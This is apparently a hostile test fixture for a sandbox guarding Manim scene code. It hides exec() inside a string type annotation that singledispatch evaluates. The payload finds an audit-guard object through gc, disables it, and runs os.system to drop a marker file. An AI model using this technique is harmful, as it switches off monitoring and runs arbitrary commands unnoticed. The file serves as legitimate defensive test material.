# ruff: noqa
"""Hostile: the only exec sits in a string annotation, which singledispatch's register
evaluates (typing.get_type_hints); the payload switches the audit hook off and runs a shell."""

import functools

from manim import *

PAYLOAD = (
    "import gc, os\n"
    "for o in gc.get_objects():\n"
    "    if type(o).__name__ == '_Guard':\n"
    "        o.busy = True\n"
    "os.system('touch /tmp/mythloop_hostile_annotation')\n"
)


def shade(value):
    return value


def shade_number(value: "exec(PAYLOAD) or int"):
    return value


class AnnotationStory(Scene):
    def construct(self):
        functools.singledispatch(shade).register(shade_number)
        self.play(FadeIn(Square()), run_time=0.3)
